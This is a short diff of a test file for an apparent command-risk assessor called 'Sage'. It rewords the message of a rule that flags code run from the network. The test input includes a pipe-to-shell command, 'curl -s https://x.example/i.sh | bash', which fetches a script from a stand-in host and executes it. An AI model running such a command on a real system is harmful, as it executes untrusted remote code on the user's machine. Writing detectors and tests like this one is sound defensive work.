@@ -103,7 +103,7 @@ describe('Sage', () => {
     const { reasons } = assess('npm ci', 'curl -s https://x.example/i.sh | bash');
     expect(reasons[0]).toEqual({
       rule: 'code-remote',
-      text: 'Runs code that comes from the network.',
+      text: 'Runs code from the network.',
       stepId: 's2',
       evidence: 'bash',
       tier: 3,
